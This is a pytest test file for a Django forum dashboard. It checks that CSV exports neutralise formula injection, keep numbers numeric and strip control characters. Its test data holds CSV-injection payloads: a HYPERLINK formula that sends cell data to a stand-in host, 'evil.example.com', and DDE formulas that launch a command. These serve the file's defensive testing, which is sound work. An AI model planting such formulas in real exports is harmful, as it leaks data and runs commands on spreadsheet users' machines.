"""CSV exports open safely in a spreadsheet: members' text never runs as a formula, numbers stay numbers,
and control characters left in older rows do not reach the file."""

import csv
import io

import pytest
from django.urls import reverse

from forum.models import Thread

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example.com/?leak="&A1,"Click for your results")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _evidence(text: str) -> list[dict]:
    return [{"start": 0, "end": len(text), "text": text, "outcome": "helped", "intervention": None}]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_post_title_or_evidence_that_starts_a_formula_is_exported_as_text(client, tagged_post, formula):
    # Given a helped post whose thread title and quoted evidence both begin like a formula
    post = tagged_post("helped", body=formula, evidence=_evidence(formula))
    Thread.objects.filter(pk=post.thread_id).update(title=formula)

    # When the drill-down list is exported as CSV
    (row,) = csv_rows(client.get(reverse("dashboards:posts_export_csv"), {"outcome": "helped"}))

    # Then both cells start with an apostrophe, so a spreadsheet shows the text instead of running it
    assert row["thread_title"] == f"'{formula}"
    assert row["evidence"] == f"'{formula}"
    assert row["post_id"] == str(post.id)


def test_a_title_that_is_just_a_negative_number_is_left_as_a_number(client, tagged_post):
    post = tagged_post("helped")
    Thread.objects.filter(pk=post.thread_id).update(title="-0.5")
    (row,) = csv_rows(client.get(reverse("dashboards:posts_export_csv"), {"outcome": "helped"}))
    assert row["thread_title"] == "-0.5"


def test_control_characters_in_older_rows_do_not_reach_the_csv(client, tagged_post):
    # Given rows stored before input was cleaned: a coloured, reversed title and evidence with a zero-width
    # space and a tab in front of a formula
    post = tagged_post("helped", evidence=_evidence("\u200b\t=1+1"))
    Thread.objects.filter(pk=post.thread_id).update(title="\x1b[31mRed\x1b[0m \u202etitle\u00a0\u200b")

    (row,) = csv_rows(client.get(reverse("dashboards:posts_export_csv"), {"outcome": "helped"}))

    assert row["thread_title"] == "Red title"
    assert row["evidence"] == "'\t=1+1"


def test_a_category_named_like_a_formula_is_neutralised_and_the_counts_stay_numbers(
    client, tagged_post, category_factory
):
    # Given posts in a category whose name an admin typed as a formula
    risky = category_factory(name="=2+5")
    for outcome in ("helped", "helped", "worsened"):
        tagged_post(outcome, category_=risky)

    rows = csv_rows(client.get(reverse("dashboards:export_csv")))

    by_category = [r for r in rows if r["figure"] == "category" and r["group_label"].endswith("=2+5")]
    assert by_category and all(r["group_label"] == "'=2+5" for r in by_category)
    # every number column is still a plain number, with no apostrophe in front
    for row in rows:
        assert row["n"].isdigit() and row["count"].isdigit()
        for column in ("percent", "ci95_low", "ci95_high"):
            assert row[column] == "" or float(row[column]) >= 0
    helped = next(r for r in by_category if r["outcome"] == "helped")
    assert (helped["n"], helped["count"]) == ("3", "2")
